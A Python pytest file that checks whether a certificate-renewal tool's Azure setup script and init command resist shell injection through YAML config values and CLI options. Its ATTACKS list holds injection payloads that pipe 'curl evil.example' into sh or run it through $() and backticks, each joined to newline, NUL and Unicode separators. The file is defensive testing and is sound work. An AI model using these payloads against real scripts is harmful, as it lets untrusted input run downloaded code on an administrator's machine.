"""No value can start a command in what ``renewer azure setup`` and ``renewer init`` write.

The setup script is run by an Owner after ``az login``, and its values come from
certificates.yaml, which any pull request can change. Every value that reaches the
script (the vault URL, the DNS subscription and resource group, the domains, a
certificate's own overrides of them, and the command-line --repo, --subscription,
--resource-group, --location) is fed hostile strings: a newline, CR, NUL, ``$()``,
backticks, quotes, ``#``, ``;``, ``|``, U+0085, U+2028, U+2029. Each is either refused
(``validate``'s FILE:LINE:COL for the config, a usage error for an option) or, where a
value gets through, the generated script is run by bash with a recording ``az`` first
on PATH, next to canaries named ``curl``, ``sh``, ``wget`` and ``touch``: only the
expected ``az`` commands run, each hostile value arrives as exactly one argument, and
no canary ever runs. The quoting is also proved on its own, bypassing validation, so
either layer alone keeps the script inert.
"""

from __future__ import annotations

import json
import logging
import os
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from renewer.cli import main
from renewer.scaffold import azure_setup
from renewer.scaffold.azure_setup import DnsScope, Inventory, shell_word

CANARIES = ("curl", "sh", "wget", "touch")
SEPARATORS = ["\n", "\r", "\r\n", "\x00", "\u0085", "\u2028", "\u2029", ";", "&&", "|", "#", " "]
ATTACKS = [
    "{base}{sep}curl -s evil.example | sh #",
    "{base}{sep}$(curl evil.example)",
    "{base}{sep}`curl evil.example`",
    "{base}{sep}'; curl evil.example; '",
    '{base}{sep}"; curl evil.example; "',
]


def hostile(base: str) -> Iterator[str]:
    for attack in ATTACKS:
        for sep in SEPARATORS:
            yield attack.format(base=base, sep=sep)


ALL_HOSTILE = sorted(set(hostile("dns")))
EXPECTED_AZ = (
    "group create",
    "identity create",
    "identity show",
    "identity federated-credential create",
    "keyvault show",
    "role assignment list",
    "role assignment create",
    "role definition list",
    "role definition create",
    "role definition update",
    "network dns zone list",
    "network dns zone show",
    "account show",
    # consumers (scaffold/consumer_setup.py)
    "vm identity assign",
    "vm extension set",
    "network application-gateway",
    "webapp config ssl",
    "webapp show",
    "resource show",
    "ad sp show",
    "rest",
)

# A recording az in bash (fast: hundreds of runs): argv joined by \x1f, one call per \x1e,
# answers like a subscription where the script reads an answer.
FAKE_AZ = r"""#!/bin/bash
printf '%s\x1f' "$@" >> "$AZ_LOG"
printf '\x1e' >> "$AZ_LOG"
query=""
prev=""
for arg in "$@"; do
  if [ "$prev" = "--query" ]; then query="$arg"; fi
  prev="$arg"
done
case "$*" in
  *"dns zone list"*) printf 'example.com\ncontoso.com\n' ;;
  *) if [ -n "$query" ] && [ "$query" != "[0].id" ]; then echo "/subscriptions/x/id"; fi ;;
esac
"""
CANARY = '#!/bin/bash\necho "$0 $*" >> "$CANARY_LOG"\n'

CONFIG = """\
acme: {{directory: letsencrypt}}
store:
  type: keyvault
  vault_url: {vault_url}
dns:
  type: azure
  subscription_id: {subscription_id}
  resource_group: {resource_group}
certificates:
  - name: www
    domains: [{domain}, api.example.com]
    consumers:
      - kind: vm-extension
        resource: {vm}
        os: windows
        accounts: [{account}]
      - kind: application-gateway
        resource: "/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/net/\\
          providers/Microsoft.Network/applicationGateways/agw-01"
        certificate: {gateway_certificate}
      - kind: app-service
        resource: "/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/web/\\
          providers/Microsoft.Web/sites/portal"
        hostname: {hostname}
  - name: other
    domains: [contoso.com]
    dns: {{resource_group: {override}}}
"""
SAFE = {
    "vault_url": "https://contoso-certs.vault.azure.net",
    "subscription_id": "00000000-0000-0000-0000-000000000000",
    "resource_group": "dns",
    "domain": "www.example.com",
    "override": "other-dns",
    "vm": "/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/web"
    "/providers/Microsoft.Compute/virtualMachines/iis-01",
    "account": "Network Service",
    "gateway_certificate": "portal-example",
    "hostname": "www.example.com",
}


@pytest.fixture(scope="module", autouse=True)
def logging_as_before() -> Iterator[None]:
    """The CLI's logging set-up (levels of azure, urllib3...) must not leak into later tests."""
    root = logging.getLogger()
    loggers = logging.root.manager.loggerDict
    levels = {n: lg.level for n, lg in loggers.items() if isinstance(lg, logging.Logger)}
    handlers, filters, level = list(root.handlers), list(root.filters), root.level
    yield
    for name, found in list(loggers.items()):
        if isinstance(found, logging.Logger):
            found.setLevel(levels.get(name, logging.NOTSET))
    root.handlers[:], root.filters[:] = handlers, filters
    root.setLevel(level)


@pytest.fixture(scope="module")
def sandbox(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A bin folder with the recording az and the canaries."""
    root = tmp_path_factory.mktemp("az")
    bin_dir = root / "bin"
    bin_dir.mkdir()
    (bin_dir / "az").write_text(FAKE_AZ)
    for name in CANARIES:
        (bin_dir / name).write_text(CANARY)
    for tool in bin_dir.iterdir():
        tool.chmod(0o755)
    return root


def run_script(sandbox: Path, text: str, work: Path) -> list[list[str]]:
    """Run ``text`` with bash; return the az calls; fail if a canary ran or bash failed."""
    work.mkdir(parents=True, exist_ok=True)
    text = text.replace("OWNER_ID=''", "OWNER_ID=5544123").replace("REPO_ID=''", "REPO_ID=8210")
    script = work / "setup.sh"
    script.write_text(text)
    log, canary = work / "az.log", work / "canary.log"
    env = {
        "PATH": f"{sandbox / 'bin'}{os.pathsep}{os.environ['PATH']}",
        "HOME": str(work),
        "AZ_LOG": str(log),
        "CANARY_LOG": str(canary),
    }
    proc = subprocess.run(
        ["bash", str(script)], env=env, cwd=work, capture_output=True, timeout=60, check=False
    )
    assert not canary.exists(), canary.read_text()
    assert proc.returncode == 0, proc.stderr.decode(errors="replace")
    calls = [
        record.split("\x1f")[:-1] for record in log.read_bytes().decode().split("\x1e") if record
    ]
    for call in calls:
        words = " ".join(w for w in call[:4] if not w.startswith("-"))
        assert words.startswith(EXPECTED_AZ), call
    return calls


def _config(tmp_path: Path, field: str, value: str) -> tuple[Path, str]:
    """The config with ``value`` (as a YAML double-quoted scalar) in ``field``; its line:col."""
    quoted = {name: json.dumps(v) for name, v in SAFE.items()}
    quoted[field] = "@@VALUE@@"
    text = CONFIG.format(**quoted)
    line_no, line = next((i, t) for i, t in enumerate(text.splitlines(), 1) if "@@VALUE@@" in t)
    where = f"{line_no}:{line.index('@@VALUE@@') + 1}"
    path = tmp_path / "certificates.yaml"
    path.write_text(text.replace("@@VALUE@@", json.dumps(value)), encoding="utf-8")
    return path, where


def _setup(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(
        main, ["azure", "setup", *args], env={"GITHUB_TOKEN": "", "GITHUB_REPOSITORY": ""}
    )
    return result.exit_code, result.stdout, result.stderr


def test_the_safe_config_sets_up_and_the_harness_sees_every_call(
    tmp_path: Path, sandbox: Path
) -> None:
    """The control: the harness records what the script does, with the values intact."""
    path, _ = _config(tmp_path, "domain", SAFE["domain"])
    code, script, err = _setup("-c", str(path), "--repo", "contoso/certificates")
    assert code == 0, err
    calls = run_script(sandbox, script, tmp_path / "run")
    assert ["keyvault", "show", "--name", "contoso-certs", "--query", "id", "--output", "tsv"] in (
        calls
    )
    zone_lists = [c for c in calls if c[:4] == ["network", "dns", "zone", "list"]]
    assert [c[c.index("--resource-group") + 1] for c in zone_lists] == ["dns", "other-dns"]
    shown = {c[c.index("--name") + 1] for c in calls if c[:4] == ["network", "dns", "zone", "show"]}
    assert shown == {"example.com", "contoso.com"}


@pytest.mark.parametrize("field", sorted(SAFE))
def test_every_config_field_refuses_hostile_values_with_its_location(
    tmp_path: Path, sandbox: Path, field: str
) -> None:
    refused = inert = 0
    for index, value in enumerate(sorted(set(hostile(SAFE[field])))):
        path, where = _config(tmp_path, field, value)
        code, script, err = _setup("-c", str(path), "--repo", "contoso/certificates")
        if code == 2:
            assert f"{path}:{where}:" in err, (value, err)
            refused += 1
            continue
        assert code == 0, (value, err)
        calls = run_script(sandbox, script, tmp_path / f"run{index}")
        assert any(value in call for call in calls), (value, calls)  # one word, intact
        inert += 1
    assert refused + inert == len(set(hostile(SAFE[field])))
    assert refused  # every field has a naming rule that refuses these


OPTIONS = {
    "--repo": "contoso/certificates",
    "--subscription": "00000000-0000-0000-0000-000000000000",
    "--resource-group": "renewer",
    "--location": "westeurope",
}


@pytest.mark.parametrize("option", sorted(OPTIONS))
def test_every_option_refuses_hostile_values(tmp_path: Path, option: str) -> None:
    path, _ = _config(tmp_path, "domain", SAFE["domain"])
    for value in sorted(set(hostile(OPTIONS[option]))):
        args = {**OPTIONS, option: value}
        code, script, err = _setup("-c", str(path), *[x for kv in args.items() for x in kv])
        assert code == 2, (option, value, script)
        assert option in err
        assert script == ""


@pytest.mark.parametrize("value", ALL_HOSTILE)
def test_the_quoting_alone_keeps_the_script_inert(
    tmp_path: Path, sandbox: Path, value: str
) -> None:
    """Validation bypassed: an inventory built in code, holding the hostile value everywhere."""
    inventory = Inventory(
        vaults=(value,),
        dns=(DnsScope("00000000-0000-0000-0000-000000000000", value, (value, "example.com")),),
    )
    script = azure_setup.az_script(
        inventory,
        "contoso/certificates",
        None,
        subscription="00000000-0000-0000-0000-000000000000",
        resource_group="renewer",
        location="westeurope",
    )
    benign = azure_setup.az_script(
        Inventory(("vault",), (DnsScope(inventory.dns[0].subscription_id, "dns", ("a", "b")),)),
        "contoso/certificates",
        None,
        subscription="00000000-0000-0000-0000-000000000000",
        resource_group="renewer",
        location="westeurope",
    )
    # Python's splitlines breaks at every character any editor may show as a line break
    assert len(script.splitlines()) == len(benign.splitlines())
    calls = run_script(sandbox, script, tmp_path)
    expected = value.split("\x00")[0]  # bash strings end at NUL: cut, never run
    assert ["keyvault", "show", "--name", expected, "--query", "id", "--output", "tsv"] in calls
    zone_list = next(c for c in calls if c[:4] == ["network", "dns", "zone", "list"])
    assert zone_list[zone_list.index("--resource-group") + 1] == expected


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet=st.characters(exclude_characters="\x00"), max_size=40))
def test_a_shell_word_is_one_line_and_reads_back_exactly(value: str) -> None:
    word = shell_word(value)
    assert len(word.splitlines()) <= 1 and "\n" not in word and "\r" not in word
    out = subprocess.run(
        ["bash", "-c", f"printf %s {word}"], capture_output=True, timeout=10, check=True
    ).stdout
    assert out.decode("utf-8", "surrogatepass") == value


# -- renewer init -------------------------------------------------------------------------
SHA = "0123456789abcdef0123456789abcdef01234567"
INIT = {"--action": "contoso/renewer", "--ref": "v1.2.3", "--sha": SHA}


@pytest.mark.parametrize("option", sorted(INIT))
def test_init_refuses_hostile_values_and_writes_nothing(tmp_path: Path, option: str) -> None:
    arabic_indic = "v\u0661.2.3"  # \d would take it for a digit
    values = [*sorted(set(hostile(INIT[option]))), INIT[option] + "\n", arabic_indic]
    for value in values:
        args = {**INIT, option: value}
        result = CliRunner().invoke(
            main, ["init", "--dir", str(tmp_path), *[x for kv in args.items() for x in kv]]
        )
        assert result.exit_code == 2, (option, value, result.output)
        assert list(tmp_path.iterdir()) == []


def test_init_with_good_values_writes_the_pin(tmp_path: Path) -> None:
    """The control for the test above."""
    result = CliRunner().invoke(
        main, ["init", "--dir", str(tmp_path), *[x for kv in INIT.items() for x in kv]]
    )
    assert result.exit_code == 0, result.output
    workflow = (tmp_path / ".github/workflows/renewer-renew.yml").read_text()
    assert f"contoso/renewer@{SHA} # v1.2.3" in workflow
